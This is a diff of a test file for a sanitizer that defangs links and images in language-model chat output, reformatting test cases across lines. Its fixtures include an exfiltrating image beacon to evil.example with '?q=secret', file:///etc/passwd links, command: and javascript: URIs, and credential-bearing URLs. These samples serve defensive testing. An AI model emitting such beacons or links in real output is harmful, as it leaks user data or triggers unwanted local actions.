@@ -22,13 +22,25 @@ describe('lm: chat markdown from model output', () => {
     ['[apple](https://\u0430pple.com/)', 'apple `https://\u0430pple.com/`'],
     ['[https://good.example](https://user:pw@evil.example)', 'https://good.example `https://user:pw@evil.example`'],
     ['[x](<file:///a b>)', 'x `file:///a b`'],
-    ['<https://ok.example/> <file:///etc/passwd> <command:x>', '<https://ok.example/> `file:///etc/passwd` `command:x`'],
-    ['bare https://user:pw@evil.example/x and https://fine.example/y.', 'bare `https://user:pw@evil.example/x` and https://fine.example/y.'],
+    [
+      '<https://ok.example/> <file:///etc/passwd> <command:x>',
+      '<https://ok.example/> `file:///etc/passwd` `command:x`',
+    ],
+    [
+      'bare https://user:pw@evil.example/x and https://fine.example/y.',
+      'bare `https://user:pw@evil.example/x` and https://fine.example/y.',
+    ],
     ['![beacon](https://evil.example/?q=secret)', '`image not shown: beacon` `https://evil.example/?q=secret`'],
-    ['[![img](https://evil.example/p.png)](https://example.com/)', '[`image not shown: img` `https://evil.example/p.png`](https://example.com/)'],
+    [
+      '[![img](https://evil.example/p.png)](https://example.com/)',
+      '[`image not shown: img` `https://evil.example/p.png`](https://example.com/)',
+    ],
     ['[r]: file:///etc/passwd', '\\[r\\]: `file:///etc/passwd`'],
     ['[ok]: https://example.com/', '[ok]: https://example.com/'],
-    ['inline `[c](command:x)` and ``a ` [b](file:///c) `` stay code', 'inline `[c](command:x)` and ``a ` [b](file:///c) `` stay code'],
+    [
+      'inline `[c](command:x)` and ``a ` [b](file:///c) `` stay code',
+      'inline `[c](command:x)` and ``a ` [b](file:///c) `` stay code',
+    ],
     ['[t](file:///x`y)', 't ``file:///x`y``'],
     ['escaped \\[not](file:///a) link', 'escaped \\[not](file:///a) link'],
   ];
@@ -40,19 +52,34 @@ describe('lm: chat markdown from model output', () => {
   }
 
   it('leaves fenced code blocks as they are', () => {
-    const text = 'before [a](file:///x)\n```md\n[inside](command:keep.as.is)\n![i](https://evil.example/)\n```\nafter [b](command:y)\n~~~\n<file:///z>\n~~~\n';
-    assert.equal(whole(text), 'before a `file:///x`\n```md\n[inside](command:keep.as.is)\n![i](https://evil.example/)\n```\nafter b `command:y`\n~~~\n<file:///z>\n~~~\n');
+    const text =
+      'before [a](file:///x)\n```md\n[inside](command:keep.as.is)\n![i](https://evil.example/)\n```\nafter [b](command:y)\n~~~\n<file:///z>\n~~~\n';
+    assert.equal(
+      whole(text),
+      'before a `file:///x`\n```md\n[inside](command:keep.as.is)\n![i](https://evil.example/)\n```\nafter b `command:y`\n~~~\n<file:///z>\n~~~\n',
+    );
   });
 
   it('streams: any split gives the same markdown, and text is passed on before its line ends', () => {
     const text = [
       'Plain [docs](https://example.com/docs) and [cred](https://user:pw@example.com/) then some more words here.',
       'Auto <file:///etc/passwd> bare https://user:pw@evil.example/x and ![b](https://evil.example/b) `[c](command:x)`',
-      '```ts', 'const a = "[x](command:y)";', '```',
-      '[r]: command:z', 'the end without a newline [x](javascript:1)',
+      '```ts',
+      'const a = "[x](command:y)";',
+      '```',
+      '[r]: command:z',
+      'the end without a newline [x](javascript:1)',
     ].join('\n');
     const expected = whole(text);
-    for (const part of ['cred `https://user:pw@example.com/`', '`file:///etc/passwd`', '`image not shown: b`', '`[c](command:x)`', 'const a = "[x](command:y)";', '\\[r\\]: `command:z`', 'x `javascript:1`']) {
+    for (const part of [
+      'cred `https://user:pw@example.com/`',
+      '`file:///etc/passwd`',
+      '`image not shown: b`',
+      '`[c](command:x)`',
+      'const a = "[x](command:y)";',
+      '\\[r\\]: `command:z`',
+      'x `javascript:1`',
+    ]) {
       assert.ok(expected.includes(part), part);
     }
     for (const size of [1, 2, 3, 5, 8, 13, 40]) {
